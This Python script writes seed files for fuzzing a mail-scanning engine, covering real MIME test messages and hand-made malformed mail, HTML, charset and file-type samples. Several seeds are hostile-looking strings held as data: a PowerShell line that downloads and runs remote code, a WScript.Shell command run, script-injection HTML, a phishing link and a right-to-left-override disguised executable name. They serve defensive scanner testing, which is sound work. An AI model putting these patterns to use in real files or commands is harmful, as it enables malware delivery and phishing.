#!/usr/bin/env python3
"""Writes the seed inputs of fuzz/corpus/NAME/ (prefix "seed-"): a few small real messages
from ../shared/corpus (MIT/PDDL test data) and hand-made nasty ones. Inputs found by
fuzzing and merged by scripts/fuzz.sh have other names and are kept as they are.

usage: fuzz/make_seeds.py [SHARED_DIR]     (default: ../shared beside the checkout)
"""
import base64
import binascii
import hashlib
import os
import pathlib
import sys

ROOT = pathlib.Path(__file__).resolve().parent
CORPUS = ROOT / "corpus"
SHARED = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT.parent.parent / "shared"
MAIL = SHARED / "corpus" / "mail"
ENGINE_MAX_SEED = 8192  # scripts/fuzz.sh's max_len for the engine target

# Real messages: MIME edge cases (the Ruby mail gem's fixtures, MimeKit's), a few ham and
# spam from the SpamAssassin corpus.
MIME_EDGE = [
    "mikel-mail/attachment_emails/attachment_nonascii_filename.eml",
    "mikel-mail/attachment_emails/attachment_with_encoded_name.eml",
    "mikel-mail/attachment_emails/attachment_with_base64_encoded_name.eml",
    "mikel-mail/attachment_emails/attachment_message_rfc822.eml",
    "mikel-mail/attachment_emails/attachment_content_location.eml",
    "mikel-mail/attachment_emails/attachment_only_email.eml",
    "mikel-mail/error_emails/encoding_madness.eml",
    "mikel-mail/error_emails/bad_encoded_subject.eml",
    "mikel-mail/error_emails/content_transfer_encoding_x_uuencode.eml",
    "mikel-mail/error_emails/content_transfer_encoding_qp_with_space.eml",
    "mikel-mail/error_emails/multiple_content_types.eml",
    "mikel-mail/error_emails/multiple_invalid_content_dispositions.eml",
    "mikel-mail/error_emails/new_line_in_to_header.eml",
    "mikel-mail/error_emails/invalid_subject_characters.eml",
    "mikel-mail/error_emails/missing_body.eml",
    "mikel-mail/error_emails/cant_parse_from.eml",
    "mikel-mail/mime_emails/email_with_similar_boundaries.eml",
    "mikel-mail/mime_emails/raw_email_with_illegal_boundary.eml",
    "mikel-mail/mime_emails/raw_email_with_quoted_illegal_boundary.eml",
    "mikel-mail/mime_emails/raw_email_with_nested_attachment.eml",
    "mikel-mail/mime_emails/raw_email_with_mimepart_without_content_type.eml",
    "mikel-mail/mime_emails/raw_email_encoded_stack_level_too_deep.eml",
    "mikel-mail/mime_emails/two_from_in_message.eml",
    "mikel-mail/multi_charset/japanese_iso_2022.eml",
    "mikel-mail/multi_charset/japanese_shift_jis.eml",
    "mikel-mail/multi_charset/ks_c_5601-1987.eml",
    "mikel-mail/rfc6532/utf8_headers.eml",
    "mikel-mail/plain_emails/raw_email_quoted_with_0d0a.eml",
    "mikel-mail/multipart_report_emails/report_422.eml",
    "mimekit/simple-embedded-message.eml",
    "mimekit/multipart-digest.txt",
    "mimekit/empty-multipart.txt",
    "mimekit/missing-subtype.txt",
    "mimekit/stack-overflow.txt",
    "mimekit/delivery-status-no-blank-line.txt",
]
HAM = [
    "00001.7c53336b37003a9286aba55d2945844c.txt",
    "00002.9c4069e25e1ef370c078db7ee85ff9ac.txt",
    "00003.860e3c3cee1b42ead714c5c874fe25f7.txt",
    "02033.7e339b1a98f4c553ca9f293b32409336.txt",
]
SPAM = [
    "00001.7848dde101aa985090474a91ec93fcf0.txt",
    "00010.445affef4c70feec58f9198cfbc22997.txt",
]
MAX_REAL = 24 * 1024  # keep the seed corpus small


def real(rel_dir, names):
    out = {}
    for n in names:
        p = MAIL / rel_dir / n
        if p.is_file() and p.stat().st_size <= MAX_REAL:
            out[rel_dir.replace("/", "-") + "-" + n.replace("/", "-")] = p.read_bytes()
    return out


def msg(headers, body):
    return (headers.strip("\n").replace("\n", "\r\n") + "\r\n\r\n").encode() + body


def nested_multipart(depth):
    body = b"innermost text\r\n"
    ctype = "text/plain"
    for i in range(depth):
        b = f"b{i}"
        body = (f"--{b}\r\nContent-Type: {ctype}\r\n\r\n").encode() + body + f"\r\n--{b}--\r\n".encode()
        ctype = f'multipart/mixed; boundary="{b}"'
    return msg(f"From: a@example.com\nTo: b@example.com\nSubject: deep\nMIME-Version: 1.0\n"
               f"Content-Type: {ctype}", body)


def nested_rfc822(depth):
    m = msg("From: x@example.com\nSubject: inner", b"inner body\r\n")
    for i in range(depth):
        m = msg(f"From: level{i}@example.com\nSubject: wrap {i}\nMIME-Version: 1.0\n"
                "Content-Type: message/rfc822", m)
    return m


def hand_made_mail():
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    return {
        "deep-multipart": nested_multipart(60),
        "deep-rfc822": nested_rfc822(30),
        "unterminated-boundary": msg(
            "From: a@example.com\nSubject: cut\nMIME-Version: 1.0\n"
            'Content-Type: multipart/mixed; boundary="zzz"',
            b"--zzz\r\nContent-Type: text/html\r\n\r\n<p>never closed\r\n--zzz\r\n"
            b"Content-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.b64encode(pdf)[:-7]),
        "empty-boundary": msg('From: a@example.com\nContent-Type: multipart/mixed; boundary=""',
                              b"--\r\n\r\nx\r\n----\r\n"),
        "huge-header-line": msg("From: a@example.com\nSubject: " + "A" * 70000, b"body\r\n"),
        "many-headers": msg("\n".join(f"X-H{i}: v" for i in range(6000)), b"b\r\n"),
        "folded-forever": msg("From: a@example.com\nSubject: s" + "\n " * 5000, b"b\r\n"),
        "encoded-words-broken": msg(
            "From: =?x-bogus?B?QUJD?= <a@example.com>\n"
            "Subject: =?utf-8?B?4pyTIOKck?= =?ISO-2022-JP?B?GyRCJUYlOSVIGyhC?= "
            "=?utf-8?Q?=E2=9C?= =?utf-8?X?abc?= =?=?= =?utf-8?B?????==?= =?gb2312?B?xOO6ww==?=\n"
            "To: =?ks_c_5601-1987?B?vsiz58fPvLy/5A==?= <b@example.com>", b"b\r\n"),
        "rfc2231-params": msg(
            "From: a@example.com\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=q",
            b"--q\r\nContent-Type: application/octet-stream;\r\n name*0*=utf-8''%E2%80%AEcod;"
            b"\r\n name*1=\"xcod.scr\"; name*99=x\r\nContent-Disposition: attachment; "
            b"filename*=bogus'en'%ZZ%\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
            b"=4D=5A=90=00=0\r\n--q--\r\n"),
        "bad-transfer-encodings": msg(
            "From: a@example.com\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=\"a\"",
            b"--a\r\nContent-Transfer-Encoding: base64\r\nContent-Type: text/plain; charset=utf-16\r\n\r\n"
            b"!!!!====AAA\r\n--a\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 a.exe\r\n"
            b"M'XL\r\nend\r\n--a\r\nContent-Type: text/html; charset=\"\"\r\n"
            b"Content-Transfer-Encoding: quoted-printable\r\n\r\n<a href=3D\"http://ex=\r\nample.com\">"
            b"<b>click</a>=\r\n--a--\r\n"),
        "binhex-body": msg("From: a@example.com\nSubject: old mac",
                           b"(This file must be converted with BinHex 4.0)\r\n:!!!!!!!!!!:\r\n"),
        "lf-only-crlf-mixed": b"From: a@example.com\nSubject: x\r\nContent-Type: multipart/mixed;"
                              b" boundary=b\n\r\n--b\r\n\nx\n--b--",
        "nul-bytes": msg("From: a\x00@example.com\nSubject: \x00\x01\x02", b"\x00" * 64),
        "from-line-only": b"From someone Mon Jan  1 00:00:00 2024\n",
    }


def mbox_seeds():
    msgs = [(MAIL / "ham" / n).read_bytes() for n in HAM if (MAIL / "ham" / n).is_file()]
    three = b"\n".join(m if m.endswith(b"\n") else m + b"\n" for m in msgs[:3])
    return {
        # first byte: max_messages - 1 (mod 16)
        "three-ham": b"\x0f" + three,
        "three-ham-cap1": b"\x00" + three,
        "crlf": b"\x07From a\r\nSubject: 1\r\n\r\nx\r\n\r\nFrom b\r\nSubject: 2\r\n\r\ny\r\n",
        "not-mbox": b"\x03Subject: hi\n\nFrom here on\n",
        "empty-messages": b"\x0fFrom a\n\nFrom b\n\nFrom c\n",
        "from-in-body": b"\x0fFrom a\nSubject: x\n\nbody\nFrom not a separator\n>From quoted\n",
    }


def transfer_seeds():
    data = bytes(range(256)) * 2
    uu = b"begin 644 payload.bin\n" + b"".join(
        binascii.b2a_uu(data[i:i + 45]) for i in range(0, len(data), 45)) + b"`\nend\n"
    return {
        # bytes 0,1: max_out choice, max_files
        "base64-lines": b"\xff\x07" + b"\r\n".join(
            base64.b64encode(data)[i:i + 76] for i in range(0, 684, 76)),
        "base64-junk": b"\x02\x01QUJD*&^%RE==\nRg=\n===A",
        "qp": b"\xff\x07Caf=C3=A9 =\r\nsoft break, bad =ZZ escape, trailing =\r\n=3D=\n",
        "q": b"\x10\x00=?utf-8?Q?_caf=C3=A9_?=_under_score",
        "uuencode": b"\xff\x07some prose\n" + uu + b"more prose\n" + uu.replace(b"644", b"755"),
        "uuencode-truncated": b"\x05\x03" + uu[:120],
        "binhex": b"\xff\x07(This file must be converted with BinHex 4.0)\n:"
                  b"!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!:\n",
    }


def html_seeds():
    spam = MAIL / "spam" / "00008.dfd941deb10f5eed78b1594b131c9266.txt"
    out = {
        "entities": b"<p>&amp;&lt;&gt;&quot;&#39;&#x1F600;&#0;&#xD800;&#1114112;&eacute&nbsp;"
                    b"&notanentity; &#;&#x;&#99999999999999999999;</p>",
        "links": b"<a href=\"https://paypa1.example/login\">https://paypal.com</a>"
                 b"<area href='javascript:alert(1)'><form action=//evil.example/x>"
                 b"<a href=unquoted>nested <a href=\"second\">inner</a></a><a href=\"&#104;ttp://e\">",
        "script-style": b"<script>document.write('<a href=x>')</script><style>a{}</style>"
                        b"<SCRIPT type=x>never closed <p>hidden",
        "unclosed": b"<div><table><tr><td>cell<td>cell2<!-- unterminated comment <a href=x>",
        "comments-cdata": b"<!--> --><![CDATA[ <b>x</b> ]]><!DOCTYPE html><?xml?>text",
        "attributes": b"<img src=x alt='<a href=y>' title=\"&quot;>\" onerror=alert(1)>"
                      b"<a\nhref\n=\n\"multi\nline\"\n>ml</a>",
        "deep": b"<div>" * 3000 + b"x" + b"</div>" * 10,
        "utf8": "<p>Привет 世界 \u202ecod.exe\u200b</p>".encode(),
    }
    if spam.is_file():
        s = spam.read_bytes()
        i = s.lower().find(b"<html")
        if i >= 0:
            out["spam-00008"] = s[i:i + 24 * 1024]
    return out


def charset_seeds():
    # first byte: index into kCharsets in charset_fuzz.cpp
    t = "Invoice 請求書 견적서 Счёт café"
    return {
        "empty-guess-utf8": b"\x00" + t.encode(),
        "ascii-with-iso2022": b"\x01" + "テスト".encode("iso-2022-jp"),
        "utf8-bad": b"\x02" + t.encode()[:-1] + b"\xc3\x28\xed\xa0\x80\xf4\x90\x80\x80",
        "latin1": b"\x04" + "café naïve".encode("latin-1"),
        "cp1251": b"\x06" + "Счёт на оплату".encode("cp1251"),
        "koi8r": b"\x08" + "Счёт на оплату".encode("koi8-r"),
        "iso2022jp": b"\x09" + "請求書をご確認ください".encode("iso-2022-jp"),
        "iso2022jp-broken": b"\x09\x1b$B%F%9\x1b(",
        "sjis": b"\x0a" + "請求書をご確認ください".encode("shift_jis"),
        "sjis-labelled-utf8": b"\x02" + "請求書をご確認ください".encode("shift_jis"),
        "euckr": b"\x0c" + "견적서를 확인하세요".encode("euc-kr"),
        "ks_c": b"\x0d" + "견적서를 확인하세요".encode("cp949"),
        "gb2312": b"\x0e" + "请查看发票".encode("gbk"),
        "big5": b"\x11" + "請查看發票".encode("big5"),
        "utf16": b"\x12" + t.encode("utf-16"),
        "utf16le-odd": b"\x13" + t.encode("utf-16-le") + b"\x00",
        "utf7": b"\x14" + t.encode("utf-7"),
        "unknown": b"\x15" + t.encode(),
    }


def file_type_seeds():
    out = {
        "pe": b"MZ\x90\x00" + b"\x00" * 56 + b"\x40\x00\x00\x00PE\x00\x00" + b"\x00" * 64,
        "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 57,
        "zip-empty": b"PK\x05\x06" + b"\x00" * 18,
        "zip-local-only": b"PK\x03\x04\x14\x00" + b"\x00" * 24 + b"word/document.xml",
        "ole-header": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "rtf": b"{\\rtf1\\ansi\\objdata 0105}",
        "lnk": b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"
               + b"\x00" * 56,
        "html": b"<!DOCTYPE html><html><body><a href=x>y</a></body></html>",
        "hta": b"<html><head><HTA:APPLICATION id=x></head><script language=VBScript>x</script>",
        "js": b"var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c dir');\n",
        "ps1": b"$c = New-Object Net.WebClient; IEX $c.DownloadString('http://x/a')\n",
        "bat": b"@echo off\r\nset x=1\r\nstart %x%\r\n",
        "vbs": b"Set o = CreateObject(\"WScript.Shell\")\r\nDim a\r\n",
        "mail": b"Received: from x\r\nFrom: a@b\r\nSubject: s\r\n\r\nbody",
        "mbox": b"From a\nFrom: x\nSubject: 1\n\nb\n\nFrom b\nFrom: y\nSubject: 2\n\nc\n",
        "gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 16,
        "7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 26,
        "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 16,
        "iso": b"\x00" * 0x8001 + b"CD001\x01",
        "text": b"just a note\n",
        "empty": b"",
    }
    for rel in ["office/msodde/harmless-clean.docx", "office/msodde/harmless-clean.doc",
                "hwp/lists.hwp"]:
        p = SHARED / "corpus" / rel
        if p.is_file():
            out["real-" + p.name] = p.read_bytes()
    return out


def write(name, seeds):
    d = CORPUS / name
    d.mkdir(parents=True, exist_ok=True)
    for old in d.glob("seed-*"):
        old.unlink()
    for key, data in seeds.items():
        (d / f"seed-{key}").write_bytes(data)


def main():
    mail = real("mime-edge", MIME_EDGE) | real("ham", HAM) | real("spam", SPAM) | hand_made_mail()
    write("mail", mail)
    # The engine sees the same messages, and a few non-mail inputs as a whole input would be;
    # not those past the length it is fuzzed with (scripts/fuzz.sh): libFuzzer would use only
    # their start, and the mail and file_type targets replay them whole.
    engine = mail | {k: v for k, v in file_type_seeds().items() if not k.startswith("real-")}
    write("engine", {k: v for k, v in engine.items() if len(v) <= ENGINE_MAX_SEED})
    write("mbox", mbox_seeds())
    write("transfer_encoding", transfer_seeds())
    write("html_text", html_seeds())
    write("charset", charset_seeds())
    write("file_type", file_type_seeds())
    total = sum(f.stat().st_size for f in CORPUS.rglob("*") if f.is_file())
    print(f"fuzz corpus: {total // 1024} KiB in {CORPUS}")


if __name__ == "__main__":
    main()
